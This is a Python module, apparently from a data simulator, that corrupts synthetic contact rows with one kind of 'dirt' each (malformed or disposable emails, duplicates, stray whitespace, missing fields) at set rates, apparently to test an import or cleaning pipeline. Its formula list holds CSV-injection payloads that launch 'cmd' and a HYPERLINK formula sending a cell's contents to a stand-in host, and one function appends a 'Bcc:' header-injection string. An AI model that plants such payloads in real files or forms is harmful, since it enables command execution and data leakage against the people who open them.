"""What is wrong with rows of real files, one kind at a time: how often, and how a clean row is spoilt."""

from collections.abc import Callable
from typing import NamedTuple

from touchline.sim.people import (
    BUDGET,
    CITY,
    COMPANY,
    COUNTRY,
    EMAIL,
    EMPLOYEES,
    FIRST,
    LAST,
    PAIN,
    PHONE,
    PROFILE,
    STATE,
    TECH,
    TITLE,
    WEBSITE,
)

Cells = list[str]


class Row(NamedTuple):
    """The row to spoil: its number, its place among the people of its company, and 64 even bits."""

    number: int
    ordinal: int
    bits: int


class Dirt(NamedTuple):
    """One kind of dirt. Each row has one kind at most, so that the counts of a market add up."""

    name: str
    per_mille: int
    spoil: Callable[[Cells, Row], None]
    repeats: str = ""
    """Name of the kind of the earlier row that this one gives again; empty where it is a person of its own."""


GMAIL_HOSTS = ("gmail.com", "googlemail.com")
DISPOSABLE = ("mailinator.com", "yopmail.com", "guerrillamail.com", "trashmail.com", "maildrop.cc", "getnada.com")
FREE = {
    "": ("outlook.com", "hotmail.com", "yahoo.com", "icloud.com"),
    "de": ("gmx.de", "web.de"),
    "at": ("gmx.at", "outlook.com"),
    "fr": ("orange.fr", "laposte.net"),
    "it": ("libero.it", "outlook.com"),
    "pl": ("wp.pl", "o2.pl"),
    "br": ("uol.com.br", "hotmail.com"),
    "jp": ("yahoo.co.jp", "icloud.com"),
}
"""Free mail hosts by the last label of the company's domain; "" is everywhere else."""

ROLES = (
    "info",
    "sales",
    "support",
    "office",
    "contact",
    "kontakt",
    "hello",
    "jobs",
    "billing",
    "marketing",
    "press",
    "admin",
)

_BROKEN = (
    "{local}(at){host}", "{local}@@{host}", "{local}@{word}@{host}", "{local} @{host}", "{local}@{word},com", "{local}.{host}",
    "{local}@{host}; office@{host}", "n/a", "@{host}",
)  # fmt: skip
_BAD_SYNTAX = ("{local}@{word}", "{local}..x@{host}", "{local}.@{host}", "{local}@-{host}", "{local}@{word}..com")
_PADDED = (
    "  {local}@{host} ", "<{local}@{host}>", "mailto:{local}@{host}", "{local}@{host}.", "{local}@{host};", '"{local}@{host}"',
    "\u00a0{local}@{host}", "{local}@{host}\u200b", "Contact <{local}@{host}>",
)  # fmt: skip
_RESERVED = ("{local}@{word}.test", "{local}@{word}.invalid", "{local}{number}@localhost", "{local}@mail.{word}.local")
_FORMULAS = (
    '=HYPERLINK("http://{word}.invalid/?x="&A1,"Profile")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+4",
    "=1+1", "\t=A1",
)  # fmt: skip
_SPACES = ("  {} ", "\u00a0{}", "{}\u200b", "\u200b{}\u00a0", "{}\t", "\ufeff{}", "\u2003{} ")
_TAGS = ("crm", "news", "work", "2024")


def _address(pattern: str, cells: Cells, row: Row) -> str:
    local, _, host = cells[EMAIL].partition("@")
    return pattern.format(local=local, host=host, word=host.partition(".")[0], number=row.number)


def _nothing(cells: Cells, row: Row) -> None:
    """Spoil nothing: what is special about the row lies elsewhere."""


def _address_like(patterns: tuple[str, ...]) -> Callable[[Cells, Row], None]:
    def spoil(cells: Cells, row: Row) -> None:
        cells[EMAIL] = _address(patterns[row.bits % len(patterns)], cells, row)

    return spoil


def _empty(*columns: int) -> Callable[[Cells, Row], None]:
    def spoil(cells: Cells, _row: Row) -> None:
        for column in columns:
            cells[column] = ""

    return spoil


def _broken_without_profile(cells: Cells, row: Row) -> None:
    cells[EMAIL] = _address(_BROKEN[row.bits % len(_BROKEN)], cells, row)
    cells[PROFILE] = ""


def _role(cells: Cells, row: Row) -> None:
    cells[EMAIL] = _address(ROLES[row.ordinal % len(ROLES)] + "@{host}", cells, row)


def _at(cells: Cells, row: Row, hosts: tuple[str, ...]) -> None:
    """Another host; the number of the row keeps namesakes apart."""
    cells[EMAIL] = _address("{local}{number}@", cells, row) + hosts[row.bits % len(hosts)]


def _disposable(cells: Cells, row: Row) -> None:
    _at(cells, row, DISPOSABLE)


def _free(cells: Cells, row: Row) -> None:
    _at(cells, row, FREE.get(cells[EMAIL].rpartition(".")[2], FREE[""]))


def _gmail(cells: Cells, row: Row) -> None:
    _at(cells, row, GMAIL_HOSTS)


def _gmail_dots(cells: Cells, row: Row) -> None:
    _gmail(cells, row)
    cells[EMAIL] = dotted(cells[EMAIL])


def dotted(address: str) -> str:
    """The same Gmail account written in another way: the other host, and other dots."""
    local, _, host = address.partition("@")
    bare = local.replace(".", "")
    return f"{bare[0]}.{bare[1:]}@{GMAIL_HOSTS[host == GMAIL_HOSTS[0]]}"


def tagged(address: str, bits: int) -> str:
    """The same account with a tag (RFC 5233)."""
    local, _, host = address.partition("@")
    return f"{local}+{_TAGS[bits % len(_TAGS)]}@{host}"


def _tag(cells: Cells, row: Row) -> None:
    cells[EMAIL] = tagged(cells[EMAIL], row.bits)


def _case(cells: Cells, row: Row) -> None:
    cells[EMAIL] = cells[EMAIL].upper() if row.bits & 1 else cells[EMAIL].title()


def _loud_names(cells: Cells, row: Row) -> None:
    for column in (FIRST, LAST):
        cells[column] = cells[column].upper() if row.bits & 3 else cells[column].lower()


def _reversed_name(cells: Cells, _row: Row) -> None:
    cells[FIRST], cells[LAST] = f"{cells[LAST].upper()}, {cells[FIRST]}", ""


def _spaces(cells: Cells, row: Row) -> None:
    for shift, column in enumerate((FIRST, LAST, TITLE, COMPANY)):
        cells[column] = _SPACES[(row.bits >> 8 * shift) % len(_SPACES)].format(cells[column])


def _formula(cells: Cells, row: Row) -> None:
    column = (TITLE, LAST, COMPANY, PAIN)[(row.bits >> 8) % 4]
    cells[column] = _address(_FORMULAS[row.bits % len(_FORMULAS)], cells, row)


def _line_break(cells: Cells, row: Row) -> None:
    column = (TITLE, LAST, COMPANY, PAIN)[(row.bits >> 8) % 4]
    tail = ("\r\nBcc: everyone@invalid.test", "\n(second line)", "\r\n\r\n<p>body</p>", '\nsays "hello", twice')[
        row.bits % 4
    ]
    cells[column] += tail


def _more_fields(cells: Cells, row: Row) -> None:
    cells += ("exported twice", "")[: 1 + row.bits % 2]


def _suppressed(cells: Cells, row: Row) -> None:
    if row.bits % 3 == 0:
        _tag(cells, row)
    elif row.bits % 3 == 1:
        _case(cells, row)


DIRT: tuple[Dirt, ...] = (
    Dirt("exact_duplicate", 20, _nothing, repeats="clean"),
    Dirt("duplicate_by_tag", 8, _tag, repeats="clean"),
    Dirt("duplicate_by_case", 8, _case, repeats="clean"),
    Dirt("duplicate_by_dots", 5, _gmail_dots, repeats="gmail"),
    Dirt("sparse", 0, _empty(TITLE, PHONE, EMPLOYEES, TECH, BUDGET)),
    Dirt("update", 15, _nothing, repeats="sparse"),
    Dirt("broken_address", 15, _address_like(_BROKEN)),
    Dirt("broken_address_only", 10, _broken_without_profile),
    Dirt("bad_syntax", 8, _address_like(_BAD_SYNTAX)),
    Dirt("padded_address", 12, _address_like(_PADDED)),
    Dirt("no_address", 25, _empty(EMAIL)),
    Dirt("nothing_identifies", 8, _empty(EMAIL, PROFILE)),
    Dirt("role_address", 15, _role),
    Dirt("disposable_address", 10, _disposable),
    Dirt("free_mail", 35, _free),
    Dirt("gmail", 10, _gmail),
    Dirt("special_use_domain", 6, _address_like(_RESERVED)),
    Dirt("loud_names", 15, _loud_names),
    Dirt("reversed_name", 10, _reversed_name),
    Dirt("odd_spaces", 15, _spaces),
    Dirt("formula", 8, _formula),
    Dirt("line_break", 8, _line_break),
    Dirt("too_many_fields", 4, _more_fields),
    Dirt("no_company", 15, _empty(COMPANY, WEBSITE)),
    Dirt("no_title", 15, _empty(TITLE)),
    Dirt("no_country", 15, _empty(COUNTRY, STATE, CITY)),
    Dirt("no_size", 20, _empty(EMPLOYEES)),
    Dirt("suppressed_address", 12, _suppressed),
    Dirt("suppressed_gmail", 4, _gmail),
    Dirt("suppressed_domain", 8, _nothing),
)
"""Per mille of the rows at `dirt=1`.

`broken_address` has a profile besides, `broken_address_only` has nothing; both hold no address. `bad_syntax` looks like an address
and is none; `padded_address` is one once its wrapping is gone. `update` fills what `sparse` left empty.
"""
